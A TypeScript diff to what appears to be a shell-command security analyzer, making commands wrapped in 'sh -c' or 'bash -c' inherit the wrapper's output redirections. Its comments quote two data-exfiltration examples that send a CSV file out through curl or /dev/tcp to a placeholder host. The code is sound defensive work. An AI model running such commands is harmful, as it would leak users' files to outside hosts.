@@ -459,6 +459,8 @@ export const SHELLS = new Set(['sh', 'bash', 'zsh', 'dash', 'ksh', 'fish']);
 
 /** A redirection of a command's input: `< file`, `<> file` and `<&N` on descriptor 0. */
 const readsInput = (r: Redirect) => (r.op === '<' || r.op === '<>' || r.op === '<&') && (r.fd ?? '0') === '0';
+/** A redirection of a command's output to a file: `> f`, `>> f`, `>| f` on descriptor 1, and `&> f`. */
+const writesOutput = (r: Redirect) => ((r.op === '>' || r.op === '>>' || r.op === '>|') && (r.fd ?? '1') === '1') || r.op === '&>' || r.op === '&>>';
 
 function unwrap(cmd: SimpleCommand, depth: number, out: SimpleCommand[], uninspected: Unread): void {
   let argv = cmd.argv;
@@ -469,14 +471,21 @@ function unwrap(cmd: SimpleCommand, depth: number, out: SimpleCommand[], uninspe
   let replace: string | null = null;
   /**
    * A command line a wrapper carries as a string: its commands run with the wrapper's environment,
-   * input and pipe; those that read the line's input (not piped from another of its commands, no
-   * input of their own) read what the wrapper's input redirections give (`bash -c "curl -d @- URL" < c.csv`).
+   * input and pipe, and its redirections. Those that read the line's input (not piped from another
+   * of its commands, no input of their own) read what the wrapper's input redirections give (`bash
+   * -c "curl -d @- URL" < c.csv`); those whose output is not piped on or redirected write where the
+   * wrapper's output goes (`sh -c "cat c.csv" > /dev/tcp/host/80`).
    */
   const runLine = (line: string) => {
     const input = cmd.redirects.filter(readsInput);
-    for (const inner of parseCommandLine(line, depth + 1, uninspected, cmd.pipedFrom)) {
-      const inherits = input.length > 0 && inner.stdin === null && inner.pipedFrom === cmd.pipedFrom && !inner.redirects.some(readsInput);
-      const redirects = inherits ? [...input, ...inner.redirects] : inner.redirects;
+    const output = cmd.redirects.filter(writesOutput);
+    const inners = parseCommandLine(line, depth + 1, uninspected, cmd.pipedFrom);
+    for (const [k, inner] of inners.entries()) {
+      const next = inners[k + 1];
+      const pipedOn = next !== undefined && next.pipedFrom !== null && next.pipedFrom !== cmd.pipedFrom;
+      const reads = input.length > 0 && inner.stdin === null && inner.pipedFrom === cmd.pipedFrom && !inner.redirects.some(readsInput);
+      const writes = output.length > 0 && !pipedOn && !inner.redirects.some(writesOutput);
+      const redirects = [...(reads ? input : []), ...inner.redirects, ...(writes ? output : [])];
       out.push({ ...inner, env: { ...env, ...inner.env }, stdin: inner.stdin ?? cmd.stdin, redirects, ...(filesAtRunTime ? { filesAtRunTime } : {}) });
     }
   };
